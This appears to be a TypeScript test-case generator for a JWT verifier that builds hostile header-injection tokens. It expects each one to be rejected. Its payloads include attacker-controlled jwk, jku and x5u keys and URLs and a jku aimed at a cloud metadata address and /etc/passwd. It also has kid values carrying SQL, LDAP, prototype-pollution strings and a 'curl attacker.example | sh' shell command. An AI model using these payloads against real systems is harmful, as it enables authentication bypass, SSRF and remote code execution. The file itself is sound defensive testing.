import type { HostileCase } from '../hostile-case.ts'
import { caseGroup, type Short } from './case-group.ts'
import { claimsText, headerText, type Members, mac, segment, type Workshop } from './workshop.ts'

/** Headers that name a key, or a place where one lies, and key ids that mean something to whoever looks them up. */
export function headerInjection(shop: Workshop): readonly HostileCase[] {
  const jwk = shop.keys.attacker?.jwk ?? {}
  return caseGroup('header-injection', 'RFC 8725 §3.10; CVE-2018-0114, CVE-2025-24976 class', [
    [
      'jwk',
      'the attacker’s key in the header, under the kid of the issuer’s',
      by(shop, { jwk }),
      'token/signature',
    ],
    [
      'jwk-no-kid',
      'the attacker’s key in the header, no kid',
      by(shop, { jwk, kid: undefined }),
      'token/signature',
    ],
    [
      'jwk-own-kid',
      'the attacker’s key in the header, under a kid of its own',
      by(shop, { jwk, kid: 'mine' }),
      'token/unknown-key',
    ],
    ['jwk-secret', 'a secret in the header, HS256 by it', withSecret(), 'token/unknown-key', byAlg],
    ['x5c', 'a certificate of the attacker’s in the header', by(shop, { x5c: [FAKE] }), 'token/signature'],
    ...places.map(([what, title, header]): Short => [what, title, by(shop, header), 'token/signature']),
    ...kids.map(([what, title, kid]) => named(shop, what, title, kid, 'token/unknown-key')),
    ...notKids.map(([what, title, kid]) => named(shop, what, title, kid, 'token/header')),
    [
      'kid-file',
      'kid ../../dev/null, HS256 under the empty secret',
      emptySecret('../../../../dev/null'),
      'token/unknown-key',
      byAlg,
    ],
    ['kid-megabyte', 'a kid of a megabyte', shop.token({ kid: 'k'.repeat(1_000_002) }), 'token/too-large'],
    [
      'control-ignored',
      'jku, x5u, jwk and x5c beside a true signature change nothing',
      shop.token({ ...everywhere, jwk, x5c: [FAKE] }),
      'accept',
    ],
    ['control-no-kid', 'no kid, one key of that algorithm', shop.token({ kid: undefined }), 'accept'],
  ])
}

const by = (shop: Workshop, header: Members): string => shop.token(header, {}, 'attacker')

function named(shop: Workshop, what: string, title: string, kid: unknown, code: string): Short {
  const why = 'RFC 8725 §3.10: kid is opaque, bounded and never a path, a query or a property name'
  return [what, title, shop.token({ kid }), code, { why }]
}

function withSecret(): string {
  const jwk = { kty: 'oct', k: segment('the secret of nobody but the attacker'), alg: 'HS256' }
  const input = `${segment(headerText({ alg: 'HS256', kid: 'es-1', jwk }))}.${segment(claimsText())}`
  return `${input}.${segment(mac('sha256', 'the secret of nobody but the attacker', input))}`
}

function emptySecret(kid: string): string {
  const input = `${segment(headerText({ alg: 'HS256', kid }))}.${segment(claimsText())}`
  return `${input}.${segment(mac('sha256', '', input))}`
}

const FAKE = 'MIIBKjCB0qADAgECAgEBMAoGCCqGSM49BAMC'
const byAlg = { expect: { verifier: 'token/alg', authenticate: 'token/alg' } }
const everywhere = { jku: 'https://attacker.example/jwks.json', x5u: 'https://attacker.example/chain.pem' }

const places: readonly (readonly [what: string, title: string, header: Members])[] = [
  ['jku', 'jku of the attacker', { jku: 'https://attacker.example/jwks.json' }],
  [
    'jku-userinfo',
    'jku that begins like the issuer’s',
    { jku: 'https://issuer.example@attacker.example/jwks.json' },
  ],
  [
    'jku-fragment',
    'jku with the issuer behind a #',
    { jku: 'https://attacker.example/#issuer.example/jwks.json' },
  ],
  [
    'jku-redirect',
    'jku of an open redirect at the issuer',
    { jku: 'https://issuer.example/out?to=https://attacker.example' },
  ],
  [
    'jku-link-local',
    'jku of a cloud’s metadata service',
    { jku: 'http://169.254.169.254/latest/meta-data/' },
  ],
  ['jku-file', 'jku of a local file', { jku: 'file:///etc/passwd' }],
  ['x5u', 'x5u of the attacker', { x5u: 'https://attacker.example/chain.pem' }],
]

const kids: readonly (readonly [what: string, title: string, kid: unknown])[] = [
  ['kid-sql', 'kid that is SQL', "es-1' UNION SELECT 'key"],
  ['kid-ldap', 'kid that is an LDAP filter', '*)(uid=*'],
  ['kid-shell', 'kid that is a shell command', 'es-1; curl attacker.example | sh'],
  ['kid-proto', 'kid __proto__', '__proto__'],
  ['kid-constructor', 'kid constructor', 'constructor'],
  ['kid-nul', 'the true kid and a NUL', 'es-1\u0000'],
  ['kid-case', 'the true kid in upper case', 'ES-1'],
  ['kid-space', 'the true kid and a space', 'es-1 '],
  ['kid-empty', 'an empty kid', ''],
]

const notKids: readonly (readonly [what: string, title: string, kid: unknown])[] = [
  ['kid-long', 'a kid of 257 characters', 'k'.repeat(257)],
  ['kid-list', 'a list for kid', ['es-1']],
  ['kid-number', 'a number for kid', 1],
  ['kid-object', 'an object for kid', { toString: 'es-1' }],
  ['kid-null', 'null for kid', null],
]
